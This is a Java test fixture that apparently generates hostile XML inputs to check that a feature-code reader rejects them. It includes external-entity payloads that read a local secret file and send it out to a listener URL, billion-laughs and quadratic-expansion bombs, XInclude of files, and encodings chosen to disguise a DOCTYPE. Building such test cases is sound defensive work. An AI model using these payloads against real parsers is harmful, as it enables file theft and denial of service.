package org.resetdesk.promise.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * XML that wants to read a file, call somebody or grow.
 *
 * @param harmlessText well-formed and without a document type: a reader that keeps any XML may keep it, and must do nothing else with it
 */
record HostileXml(String name, byte[] file, boolean harmlessText) {

    /** Bodies stand where a feature code file has its code; {@code URL} becomes the listener's address, {@code FILE} a secret's. */
    static List<HostileXml> all(String url, Path secret) {
        List<HostileXml> all = new ArrayList<>();
        add(all, "document type", "<!DOCTYPE FeatureCode>", "a.b.c");
        add(all, "external document type", "<!DOCTYPE FeatureCode SYSTEM 'URL/d.dtd'>", "a.b.c");
        add(all, "public document type", "<!DOCTYPE FeatureCode PUBLIC '-//x' 'URL/p.dtd'>", "a.b.c");
        add(all, "entity from a file", "<!DOCTYPE f [<!ENTITY e SYSTEM 'FILE'>]>", "&e;");
        add(all, "entity from the network", "<!DOCTYPE f [<!ENTITY e SYSTEM 'URL/e'>]>", "&e;");
        add(all, "entity in an attribute", "<!DOCTYPE f [<!ENTITY e 'x'>]>", "<a b='&e;'/>");
        add(all, "parameter entity", "<!DOCTYPE f [<!ENTITY % p SYSTEM 'URL/p'> %p;]>", "a.b.c");
        add(
                all,
                "a file sent out by parameter entities",
                "<!DOCTYPE f [<!ENTITY % f SYSTEM 'FILE'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'URL/?%f;'>\">%e;%s;]>",
                "a.b.c");
        add(all, "billion laughs", "<!DOCTYPE f [" + laughs() + "]>", "&l9;");
        add(all, "quadratic blow-up", "<!DOCTYPE f [<!ENTITY a '" + "a".repeat(1200) + "'>]>", "&a;".repeat(600));
        add(
                all,
                "unparsed entity",
                "<!DOCTYPE f [<!NOTATION n SYSTEM 'URL/n'><!ENTITY e SYSTEM 'URL/u' NDATA n>]>",
                "x");
        add(all, "undeclared entity", "", "&e;");
        add(all, "numberless reference", "", "&#99999999;");
        addHarmless(
                all,
                "XInclude of a file",
                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='FILE' parse='text'/>");
        addHarmless(
                all,
                "XInclude from the network",
                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='URL/x'/>");
        addHarmless(
                all,
                "external schema",
                "<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='URL/s.xsd'/>");
        addHarmless(
                all,
                "signature that fetches what it signs",
                "<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'><SignedInfo><Reference URI='URL/r'/></SignedInfo></Signature>");
        all.add(new HostileXml(
                "style sheet",
                "<?xml-stylesheet type='text/xsl' href='URL/s.xsl'?><FeatureCode><Code>a.b.c</Code></FeatureCode>"
                        .getBytes(UTF_8),
                true));
        all.add(new HostileXml("deep", (nested(500) + "</a>".repeat(500)).getBytes(UTF_8), true));
        String entity = document("<!DOCTYPE f [<!ENTITY e SYSTEM 'URL/16'>]>", "&e;");
        disguised(all, "UTF-16BE", "\uFEFF" + entity, UTF_16BE);
        disguised(all, "UTF-16LE", "\uFEFF" + entity, UTF_16LE);
        disguised(all, "UTF-16 without a mark", "<?xml version='1.0' encoding='UTF-16'?>" + entity, UTF_16BE);
        disguised(all, "UTF-32", "\uFEFF" + entity, Charset.forName("UTF-32BE"));
        disguised(all, "EBCDIC", "<?xml version='1.0' encoding='IBM037'?>" + entity, Charset.forName("IBM037"));
        disguised(
                all,
                "UTF-7",
                "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE f +AFs-+ADwAIQ-ENTITY e SYSTEM 'URL/7'+AD4AXQA+-"
                        + "+ADw-f+AD4-+ACY-e+ADs-+ADw-/f+AD4-",
                US_ASCII);
        disguised(all, "not UTF-8", document("", "\u00E9"), ISO_8859_1);
        return all.stream().map(one -> one.with(url, secret)).toList();
    }

    private static void add(List<HostileXml> all, String name, String doctype, String code) {
        all.add(new HostileXml(name, document(doctype, code).getBytes(UTF_8), false));
    }

    private static void addHarmless(List<HostileXml> all, String name, String code) {
        all.add(new HostileXml(name, document("", code).getBytes(UTF_8), true));
    }

    private static void disguised(List<HostileXml> all, String name, String text, Charset charset) {
        all.add(new HostileXml(name, text.getBytes(charset), false));
    }

    private static String document(String doctype, String code) {
        return doctype + "<FeatureCode version=\"1\"><Code>" + code + "</Code></FeatureCode>";
    }

    private static String laughs() {
        return "<!ENTITY l0 'ha'>"
                + IntStream.rangeClosed(1, 9)
                        .mapToObj(i -> "<!ENTITY l%d '%s'>".formatted(i, ("&l" + (i - 1) + ";").repeat(10)))
                        .collect(Collectors.joining());
    }

    private static String nested(int depth) {
        return "<a>".repeat(depth);
    }

    /** Byte for byte, so that disguises stay what they are. */
    private HostileXml with(String url, Path secret) {
        Charset wide = name.startsWith("UTF-16LE")
                ? UTF_16LE
                : name.startsWith("UTF-16")
                        ? UTF_16BE
                        : name.equals("UTF-32")
                                ? Charset.forName("UTF-32BE")
                                : name.equals("EBCDIC") ? Charset.forName("IBM037") : ISO_8859_1;
        String text = new String(file, wide)
                .replace("URL", url)
                .replace("FILE", secret.toUri().toString());
        return new HostileXml(name, text.getBytes(wide), harmlessText);
    }

    @Override
    public String toString() {
        return name;
    }
}
